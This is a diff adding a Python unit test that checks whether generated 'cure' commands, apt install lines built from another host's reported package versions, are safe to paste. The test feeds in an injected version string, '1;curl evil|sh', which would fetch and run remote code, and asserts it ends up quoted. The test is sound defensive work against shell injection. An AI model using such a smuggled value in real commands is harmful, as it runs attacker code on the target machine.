@@ -61,6 +61,15 @@ def test_differences_are_ranked_with_evidence_and_cure() -> None:
     assert "gpu_stack_kernel_floor: 6.19.1" in found.reasons[0].cure
 
 
+def test_a_cure_is_safe_to_paste_whatever_the_other_host_says() -> None:
+    evil = {**TRAITS, "gpu_stack:mesa-vulkan-drivers": "1;curl evil|sh"}
+    other = replace(sibling("strix-2"), traits=evil)
+    found = beside(MINE, SLOW, [other])
+    assert found is not None
+    (mesa,) = found.reasons
+    assert mesa.cure == "on strix-1: apt install mesa-vulkan-drivers='1;curl evil|sh'"
+
+
 def test_options_of_the_server_are_compared_for_the_instance_that_serves_the_file() -> None:
     other = replace(
         sibling("strix-2"),
